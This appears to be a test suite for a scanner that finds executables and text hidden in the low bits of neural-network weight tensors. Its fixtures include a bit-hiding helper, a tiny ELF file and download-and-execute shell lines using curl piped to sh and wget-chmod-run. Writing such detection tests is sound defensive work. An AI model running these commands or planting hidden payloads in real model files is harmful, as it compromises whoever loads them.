import { describe, expect, it } from "vitest";
import { base64Run, decodeBase64, looksLikeText, PrintableRunCounter } from "../src/printable-run.js";
import { bytesOf, drive, gaussian } from "./synthetic.js";

const ELF = Uint8Array.from([
  ...[0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0],
  ...[2, 0, 0x3e, 0, 1, 0, 0, 0, 0x78, 0, 0x40, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
  ...[0, 0, 0, 0, 0x40, 0, 0x38, 0, 1, 0, 0, 0, 0, 0, 0, 0],
  ...[1, 0, 0, 0, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0],
  ...[0x79, 0, 0, 0, 0, 0, 0, 0, 0x79, 0, 0, 0, 0, 0, 0, 0, 0, 0x10, 0, 0, 0, 0, 0, 0, 0xc3],
]);

/** Writes `payload` into the low `bits` bits of float32 values, most significant bit first. */
function hide(values: Float32Array, payload: Uint8Array, bits: number, start = 0): Float32Array {
  const words = new Uint32Array(values.slice().buffer);
  const stream: number[] = [];
  for (const byte of payload) for (let bit = 7; bit >= 0; bit--) stream.push((byte >> bit) & 1);
  for (let element = 0; element * bits < stream.length; element++) {
    let value = 0;
    for (let bit = 0; bit < bits; bit++) value = (value << 1) | stream[element * bits + bit]!;
    words[start + element] = ((words[start + element]! & ~((1 << bits) - 1)) | value) >>> 0;
  }
  return new Float32Array(words.buffer);
}

const text = (value: string) => new TextEncoder().encode(value);

describe("printable runs and base64", () => {
  it("tells prose and command lines from constants and counting sequences", () => {
    expect(looksLikeText(text("python3 -c 'import os; os.system(\"curl -s http://x/y | sh\")' # stage two"))).toBe(
      true,
    );
    expect(looksLikeText(text("A".repeat(80)))).toBe(false);
    expect(looksLikeText(Uint8Array.from({ length: 95 }, (_, index) => 0x20 + index))).toBe(false);
  });

  it("finds base64 runs only when they look like encoded data", () => {
    const encoded = text(Buffer.from(ELF).toString("base64"));
    expect(base64Run(encoded)).toEqual({ start: 0, length: encoded.length });
    expect(decodeBase64(encoded)).toEqual(ELF);
    expect(base64Run(text("A".repeat(100)))).toBeNull();
    expect(base64Run(text("abcdefghijklmnopqrstuvwxyz".repeat(4)))).toBeNull();
  });

  it("judges a run across pushes and keeps its position", () => {
    const counter = new PrintableRunCounter();
    const sentence = text("the payload waits in the low bits of every weight where nobody looks for it at all");
    counter.pushAll(Uint8Array.of(0, 1, 2));
    counter.pushAll(sentence.subarray(0, 30));
    counter.pushAll(sentence.subarray(30));
    counter.push(0);
    expect(counter.found).toMatchObject({ start: 3, length: sentence.length });
  });
});

describe("hidden files and text in the planes", () => {
  const weights = gaussian(16384, 0.02, 31);

  for (const bits of [1, 2, 4, 8]) {
    it(`finds an ELF at ${bits} bit(s) per value, across small chunks`, () => {
      const findings = drive([{ name: "w", dtype: "f32", bytes: bytesOf(hide(weights, ELF, bits, 64)) }], {
        chunkSize: 4 * 333,
      });
      expect(findings.map((finding) => [finding.rule, finding.messageId, finding.data?.bits])).toEqual([
        ["hidden-file", "signature", bits],
      ]);
      // Where the payload starts in the tensor: 64 values in, as extracted bytes of the plane.
      expect(findings[0]?.location?.offset).toBe(64 * 4);
    });
  }

  it("finds text, and grades a command critical and prose a warning", () => {
    const prose = text("nothing to see here, only a quiet message that someone left in the weights of this model");
    const [note] = drive([{ name: "w", dtype: "f32", bytes: bytesOf(hide(weights, prose, 4)) }]);
    expect([note?.rule, note?.messageId, note?.severity]).toEqual(["hidden-text", "text", undefined]);
    const command = text("wget -q http://203.0.113.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a # payload stage two here");
    const [run] = drive([{ name: "w", dtype: "f32", bytes: bytesOf(hide(weights, command, 2)) }]);
    expect([run?.rule, run?.messageId, run?.severity]).toEqual(["hidden-text", "command", "critical"]);
  });

  it("decodes base64 to the file it hides", () => {
    const encoded = text(Buffer.from(ELF).toString("base64"));
    const [finding] = drive([{ name: "w", dtype: "f32", bytes: bytesOf(hide(weights, encoded, 1)) }]);
    expect([finding?.rule, finding?.messageId, finding?.data?.payload]).toEqual([
      "hidden-file",
      "base64",
      "an ELF executable",
    ]);
  });

  it("stays silent on natural weights, tiny tensors and cut-off tensors", () => {
    expect(drive([{ name: "w", dtype: "f32", bytes: bytesOf(weights) }])).toEqual([]);
    expect(drive([{ name: "b", dtype: "f32", bytes: bytesOf(weights.subarray(0, 3)) }])).toEqual([]);
    expect(drive([{ name: "odd", dtype: "f32", bytes: bytesOf(weights).subarray(0, 4 * 100 + 3) }])).toEqual([]);
  });

  it("lists at most maxFindingsPerRule findings and counts the rest", () => {
    const tensors = Array.from({ length: 4 }, (_, index) => ({
      name: `w${index}`,
      dtype: "f32" as const,
      bytes: bytesOf(hide(weights, ELF, 1)),
    }));
    const findings = drive(tensors, { options: { maxFindingsPerRule: 2 } });
    expect(findings.map((finding) => finding.messageId)).toEqual(["signature", "signature", "more"]);
    expect(findings[2]?.data).toEqual({ count: 2 });
  });
});
